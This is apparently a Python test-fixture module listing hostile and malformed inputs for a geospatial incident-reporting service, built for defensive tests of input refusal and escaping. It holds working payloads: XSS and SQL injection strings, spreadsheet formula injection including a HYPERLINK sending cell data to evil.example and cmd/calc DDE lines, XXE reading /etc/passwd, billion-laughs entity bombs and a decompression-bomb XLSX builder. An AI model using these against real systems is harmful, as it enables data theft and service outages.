"""Hostile and broken inputs, by kind: each list holds (name, payload) pairs, so that a new case is one line.

The doors (API, pages, imports, field submissions, OGC API, tiles) each take the lists that make sense
for them; the tests say what every door must answer (a specific 4xx, or the value stored and shown
escaped) and that nothing else was written.
"""

import datetime
import io
import json
import zipfile

# --- Text ------------------------------------------------------------------------------------

# Refused wherever they are sent: PostgreSQL stores no NUL in text, and a lone surrogate is no UTF-8.
TEXT_REFUSED = [
    ("nul", "before\x00after"),
    ("nul_only", "\x00"),
    ("lone_surrogate", "a\ud800b"),
    ("over_max_length", "x" * 10_000),
]

# Valid text: stored as sent, then shown escaped on every page and export.
TEXT_STORED = [
    ("rtl_override", "abc\u202edcba"),
    ("zero_width_joiner", "👨\u200d👩\u200d👧"),
    ("combining", "e\u0301\u0301\u0301\u0301"),
    ("emoji", "💣🧨☠️"),
    ("bom", "\ufeffnote"),
    ("script", "<script>alert(1)</script>"),
    ("img_onerror", '"><img src=x onerror=alert(1)>'),
    ("javascript_url", "javascript:alert(1)"),
    ("sql_drop", "'; DROP TABLE incidents_incident; --"),
    ("sql_or", "1 OR 1=1"),
    ("quote_mix", 'O\'Brien "the" `x`'),
]

# Markup that must never reach a page unescaped (the exact string, as a browser would parse it).
MARKUP = [payload for _name, payload in TEXT_STORED if "<" in payload]

# Spreadsheet formulas: neutralised in CSV and XLSX exports (a leading apostrophe), numbers kept.
FORMULAS = [
    ("hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("plus_cmd", "+cmd|' /C calc'!A0"),
    ("minus", "-1+1"),
    ("at_sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("tab", "\t=1+1"),
    ("cr", "\r=1+1"),
    ("equals_only", "=1+1"),
]

# --- Values of the wrong type, for any field --------------------------------------------------

# Raw JSON, so that NaN and Infinity (not JSON, yet Python's json reads them) go out as written.
WRONG_TYPES = [
    ("string", '"not a value"'),
    ("object", '{"a": 1}'),
    ("array", "[1, 2]"),
    ("bigint_overflow", str(2**70)),
    ("negative_overflow", str(-(2**70))),
    ("nan", "NaN"),
    ("infinity", "Infinity"),
    ("minus_infinity", "-Infinity"),
    ("float_overflow", "1e400"),
    ("true", "true"),
    ("empty_string", '""'),
]

# --- Whole bodies ------------------------------------------------------------------------------

# (name, body, content type)
BODIES = [
    ("truncated_json", b'{"incident_date": "2024-0', "application/json"),
    ("array_not_object", b"[]", "application/json"),
    ("array_of_objects", b'[{"a": 1}]', "application/json"),
    ("string_body", b'"text"', "application/json"),
    ("number_body", b"42", "application/json"),
    ("null_body", b"null", "application/json"),
    ("empty_body", b"", "application/json"),
    ("not_utf8", b'{"description": "\xff\xfe"}', "application/json"),
    ("form_encoded", b"a=1&b=2", "application/x-www-form-urlencoded"),
    ("xml", b"<incident/>", "application/xml"),
    ("text_plain", b"hello", "text/plain"),
    ("bogus_type", b"{}", "application/x-unknown"),
]

# --- Geometries ----------------------------------------------------------------------------------

MOPTI = (-4.19, 14.49)


def _ring(*points):
    return [list(point) for point in points]


BOWTIE = _ring((-4.19, 14.49), (-4.18, 14.50), (-4.18, 14.49), (-4.19, 14.50), (-4.19, 14.49))
SQUARE = _ring((-4.19, 14.49), (-4.18, 14.49), (-4.18, 14.50), (-4.19, 14.50), (-4.19, 14.49))

# A valid sliver of 60,000 vertices: nothing surveyed has that many.
HUGE_RING = [[-4.19 + i * 1e-7, 14.49] for i in range(60_000)] + [[-4.19, 14.50], [-4.19, 14.49]]

# Polygons for a hazard area (the point doors get their own list below).
POLYGONS = [
    ("not_geojson", "POLYGON"),
    ("no_type", {"coordinates": [SQUARE]}),
    ("unknown_type", {"type": "Hexagon", "coordinates": [SQUARE]}),
    ("bowtie", {"type": "Polygon", "coordinates": [BOWTIE]}),
    ("unclosed_ring", {"type": "Polygon", "coordinates": [SQUARE[:-1]]}),
    ("two_points", {"type": "Polygon", "coordinates": [SQUARE[:2]]}),
    ("empty", {"type": "Polygon", "coordinates": []}),
    ("empty_ring", {"type": "Polygon", "coordinates": [[]]}),
    ("wrong_type_point", {"type": "Point", "coordinates": list(MOPTI)}),
    ("swapped", {"type": "Polygon", "coordinates": [[[lat, lon] for lon, lat in SQUARE]]}),
    ("outside_country", {"type": "Polygon", "coordinates": [[[lon + 10, lat + 30] for lon, lat in SQUARE]]}),
    ("outside_world", {"type": "Polygon", "coordinates": [[[lon, lat + 200] for lon, lat in SQUARE]]}),
    ("four_d", {"type": "Polygon", "coordinates": [[[lon, lat, 1, 2] for lon, lat in SQUARE]]}),
    ("string_coordinates", {"type": "Polygon", "coordinates": [[[str(lon), str(lat)] for lon, lat in SQUARE]]}),
    ("nan_coordinates", {"type": "Polygon", "coordinates": [[[float("nan"), 1]] * 4]}),
    ("huge", {"type": "Polygon", "coordinates": [HUGE_RING]}),
]

POINTS = [
    ("not_geojson", "POINT"),
    ("no_coordinates", {"type": "Point"}),
    ("empty", {"type": "Point", "coordinates": []}),
    ("one_number", {"type": "Point", "coordinates": [1]}),
    ("wrong_type_polygon", {"type": "Polygon", "coordinates": [SQUARE]}),
    ("swapped", {"type": "Point", "coordinates": [MOPTI[1], MOPTI[0]]}),
    ("outside_country", {"type": "Point", "coordinates": [2.35, 48.85]}),
    ("outside_world", {"type": "Point", "coordinates": [-4.19, 200]}),
    ("four_d", {"type": "Point", "coordinates": [*MOPTI, 1, 2]}),
    ("string_coordinates", {"type": "Point", "coordinates": ["-4.19", "x"]}),
    ("nested", {"type": "Point", "coordinates": [[*MOPTI]]}),
    ("feature", {"type": "Feature", "geometry": {"type": "Point", "coordinates": list(MOPTI)}}),
]

# --- Dates ----------------------------------------------------------------------------------------

DATES = [
    ("year_one", "0001-01-01"),
    ("before_floor", "1900-06-01"),
    ("year_9999", "9999-12-31"),
    ("impossible", "2025-02-30"),
    ("month_13", "2024-13-01"),
    ("with_time_zone", "2024-03-15T10:00:00+14:00"),
    ("year_five_digits", "12024-01-01"),
    ("day_first", "15/03/2024"),
    ("word", "yesterday"),
    # An event cannot lie in the future (the service's rule), even by a day.
    ("tomorrow", (datetime.date.today() + datetime.timedelta(days=1)).isoformat()),
]

# --- Files ----------------------------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"


def zipped(files: dict[str, bytes], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
    b'spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = b"</sheetData></worksheet>"


def xlsx(rows: list[list[str]]) -> bytes:
    """A workbook of inline strings written as raw XML, so that a cell may hold what openpyxl refuses."""
    xml = b"".join(
        b"<row>" + b"".join(b'<c t="inlineStr"><is><t>' + cell.encode() + b"</t></is></c>" for cell in row) + b"</row>"
        for row in rows
    )
    return zipped({**_XLSX_PARTS, "xl/worksheets/sheet1.xml": SHEET_HEAD + xml + SHEET_TAIL})


def xlsx_bomb(expanded_bytes: int = 2 * 1024**3) -> bytes:
    """A workbook of a few megabytes whose sheet XML inflates to `expanded_bytes` (blank padding
    inside one cell's element: zlib packs it about a thousand to one)."""
    head = SHEET_HEAD + b'<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'
    tail = SHEET_TAIL
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in _XLSX_PARTS.items():
            archive.writestr(name, content)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(head)
            block = b" " * (8 * 1024 * 1024)
            for _ in range(expanded_bytes // len(block)):
                sheet.write(block)
            sheet.write(tail)
    return buffer.getvalue()


_XLSX_PARTS = {
    "[Content_Types].xml": (
        b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
        b'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.worksheet+xml"/></Types>'
    ),
    "_rels/.rels": (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/workbook.xml": (
        b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        b'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        b'<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    ),
}

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10)
    )
    + b"]>"
)
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def xml_attack(head: bytes, root: str, entity: str) -> bytes:
    return head + f"<{root}>&{entity};</{root}>".encode()


XML_ATTACKS = [
    ("billion_laughs", BILLION_LAUGHS, "lol9"),
    ("xxe_file", XXE, "xxe"),
]

CSV_HEADER = b"external_id,incident_date,incident_class,device_category_reported,how_activated,longitude,latitude\n"

# Files sent to the import doors: (name, file name, content). Each is refused whole, with a reason.
IMPORT_FILES_REFUSED = [
    ("empty_csv", "incidents.csv", b""),
    ("png_named_csv", "incidents.csv", PNG),
    ("zip_named_xlsx", "incidents.xlsx", zipped({"readme.txt": b"hello"})),
    ("png_named_xlsx", "incidents.xlsx", PNG),
    ("empty_xlsx", "incidents.xlsx", b""),
    ("xlsx_bomb", "incidents.xlsx", None),  # built by the test, once
    ("shapefile_zip_without_shp", "incidents.zip", zipped({"incidents.dbf": b"\x03", "incidents.prj": b"GEOGCS"})),
    ("gpkg_not_sqlite", "incidents.gpkg", b"this is not a GeoPackage at all" * 10),
    ("geojson_truncated", "incidents.geojson", b'{"type": "FeatureCollection", "features": [{'),
    ("geojson_billion_laughs", "incidents.geojson", BILLION_LAUGHS),
    ("unknown_suffix", "incidents.kml", xml_attack(XXE, "kml", "xxe")),
    ("csv_nul_bytes", "incidents.csv", CSV_HEADER + b"A-1,2024-03-15,impro\x00vised,x,y,-4.19,14.49\n"),
    ("csv_header_only_blank", "incidents.csv", b"\n\n\n"),
    (
        "csv_not_utf8_nor_cp1252",
        "incidents.csv",
        CSV_HEADER + b"A-1,2024-03-15,impro\x81vised,improvised_av_mine,stepped_on,-4.19,14.49\n",
    ),
    ("xlsx_nul_entity", "incidents.xlsx", None),  # built below: XML cannot carry NUL, even as &#0;
    ("xlsx_control_character", "incidents.xlsx", None),  # a raw \x01: no XML parser reads it
    ("xlsx_xxe", "incidents.xlsx", None),
    ("xlsx_billion_laughs", "incidents.xlsx", None),
]

# Files whose rows are read, and rejected row by row: nothing is written.
IMPORT_FILES_ROWS_REJECTED = [
    ("csv_cp1252", "incidents.csv",
     CSV_HEADER + b"A-1,2024-03-15,impro\xe9vised,improvised_av_mine,stepped_on,-4.19,14.49\n"),
    ("csv_bom_latin1", "incidents.csv", b"\xef\xbb\xbf" + CSV_HEADER + b"A-1,2024-02-30,x,y,z,-4.19,14.49\n"),
    ("csv_formula_and_nul_text", "incidents.csv",
     CSV_HEADER + b'A-1,=HYPERLINK("x"),improvised,improvised_av_mine,stepped_on,-4.19,200\n'),
    ("csv_huge_numbers", "incidents.csv",
     CSV_HEADER + b"A-1,2024-03-15,improvised,improvised_av_mine,stepped_on,1e400,NaN\n"),
    ("csv_year_9999", "incidents.csv",
     CSV_HEADER + b"A-1,9999-12-31,improvised,improvised_av_mine,stepped_on,-4.19,14.49\n"),
    ("geojson_bad_geometries", "incidents.geojson",
     b'{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"incident_date": '
     b'"2024-03-15"}, "geometry": {"type": "Point", "coordinates": [-4.19, 200]}}, {"type": "Feature", '
     b'"properties": [], "geometry": {"type": "Polygon", "coordinates": [[[0, 0], [1, 1], [1, 0], [0, 1], [0, 0]]]}},'
     b' 7, {"type": "Feature", "properties": {"incident_date": "0001-01-01"}, "geometry": "POINT"}]}'),
    ("geojson_nul_and_surrogate_text", "incidents.geojson",
     b'{"type": "FeatureCollection", "features": [' + b", ".join(
         b'{"type": "Feature", "properties": {"incident_date": "2024-03-15", "incident_class": "improvised", '
         b'"device_category_reported": "improvised_av_mine", "how_activated": "stepped_on", "description": "'
         + text + b'", "external_id": "G-' + text + b'"}, "geometry": {"type": "Point", "coordinates": [-4.19, 14.49]}}'
         for text in (b"a\\u0000b", b"a\\ud800b")) + b"]}"),
]  # fmt: skip

# --- OGC API - Features and tiles ----------------------------------------------------------------

OGC_PARAMETERS = [
    ("bbox_words", "bbox=a,b,c,d"),
    ("bbox_three", "bbox=1,2,3"),
    ("bbox_inverted", "bbox=10,20,-10,-20"),
    ("bbox_nan", "bbox=NaN,NaN,NaN,NaN"),
    ("bbox_infinite", "bbox=-Infinity,-90,Infinity,90"),
    ("bbox_huge", "bbox=-1e400,-1e400,1e400,1e400"),
    ("bbox_lat_200", "bbox=-5,-200,5,200"),
    ("bbox_nul", "bbox=1%00,2,3,4"),
    ("bbox_crs_unknown", "bbox=1,2,3,4&bbox-crs=EPSG:999999"),
    ("bbox_crs_words", "bbox=1,2,3,4&bbox-crs=<script>"),
    ("crs_unknown", "crs=http://www.opengis.net/def/crs/EPSG/0/999999"),
    ("crs_file", "crs=file:///etc/passwd"),
    ("datetime_impossible", "datetime=2025-02-30"),
    ("datetime_year_one", "datetime=0001-01-01/.."),
    ("datetime_year_two", "datetime=0002-01-01/.."),
    ("datetime_inverted", "datetime=2024-12-31/2024-01-01"),
    ("datetime_words", "datetime=yesterday"),
    ("datetime_open_both", "datetime=../.."),
    ("datetime_year_99999", "datetime=99999-01-01"),
    ("limit_negative", "limit=-1"),
    ("limit_zero", "limit=0"),
    ("limit_huge", "limit=99999999999999999999999"),
    ("limit_words", "limit=ten"),
    ("offset_negative", "offset=-5"),
    ("offset_huge", "offset=99999999999999999999999"),
    ("offset_float", "offset=1.5"),
    ("property_unknown", "no_such_property=1"),
    ("property_sql", "status=approved'%20OR%201=1--"),
    ("property_nul", "status=%00"),
    ("sortby_unknown", "sortby=-password"),
    ("f_unknown", "f=exe"),
]

TILES = [
    ("z_too_high", "30/0/0"),
    ("x_out_of_range", "5/32/0"),
    ("y_out_of_range", "5/0/32"),
    ("huge", "99999999999999999999/0/0"),
    ("x_huge_at_z2", "2/99999999999999999999/1"),
    ("negative", "5/-1/0"),
    ("words", "z/x/y"),
    ("float", "1.5/0/0"),
]


def _xlsx_files() -> dict[str, bytes]:
    header = [*CSV_HEADER.decode().strip().split(","), "description"]
    row = ["X-1", "2024-03-15", "improvised", "improvised_av_mine", "stepped_on", "-4.19", "14.49"]
    doctype = b'<?xml version="1.0" encoding="UTF-8"?>'
    return {
        "xlsx_nul_entity": xlsx([header, [*row, "a&#0;b"]]),
        "xlsx_control_character": xlsx([header, [*row, "a\x01b"]]),
        "xlsx_xxe": zipped(
            {
                **_XLSX_PARTS,
                "xl/worksheets/sheet1.xml": XXE
                + SHEET_HEAD.removeprefix(doctype)
                + b'<row><c t="inlineStr"><is><t>&xxe;</t></is></c></row>'
                + SHEET_TAIL,
            }
        ),
        "xlsx_billion_laughs": zipped(
            {
                **_XLSX_PARTS,
                "xl/worksheets/sheet1.xml": BILLION_LAUGHS
                + SHEET_HEAD.removeprefix(doctype)
                + b'<row><c t="inlineStr"><is><t>&lol9;</t></is></c></row>'
                + SHEET_TAIL,
            }
        ),
    }


XLSX_FILES = _xlsx_files()
IMPORT_FILES_REFUSED = [
    (name, file_name, XLSX_FILES.get(name, content)) for name, file_name, content in IMPORT_FILES_REFUSED
]
IMPORT_FILES_ROWS_REJECTED = [
    (name, file_name, XLSX_FILES.get(name, content)) for name, file_name, content in IMPORT_FILES_ROWS_REJECTED
]


# Polygon files a surveyor might load on the hazard page: (name, file name, content). Each is a form error.
GEOMETRY_FILES = [
    ("kml_billion_laughs", "area.kml", xml_attack(BILLION_LAUGHS, "kml", "lol9")),
    ("kml_xxe", "area.kml", xml_attack(XXE, "kml", "xxe")),
    ("gpx_xxe", "area.gpx", xml_attack(XXE, "gpx", "xxe")),
    ("gpx_billion_laughs", "area.gpx", xml_attack(BILLION_LAUGHS, "gpx", "lol9")),
    ("png_named_kml", "area.kml", PNG),
    ("zip_named_geojson", "area.geojson", zipped({"area.geojson": b"{}"})),
    ("kmz", "area.kmz", zipped({"doc.kml": b"<kml/>"})),
    ("empty", "area.geojson", b""),
    ("geojson_not_utf8", "area.geojson", b'{"type": "Polygon", "coordinates": "\xff"}'),
    ("kml_bowtie", "area.kml", (
        "<kml xmlns='http://www.opengis.net/kml/2.2'><Placemark><Polygon><outerBoundaryIs><LinearRing><coordinates>"
        + " ".join(f"{lon},{lat}" for lon, lat in BOWTIE)
        + "</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark></kml>").encode()),
] + [(f"geojson_{name}", "area.geojson", json.dumps(geometry).encode()) for name, geometry in POLYGONS
     if name not in ("nan_coordinates",)]  # fmt: skip
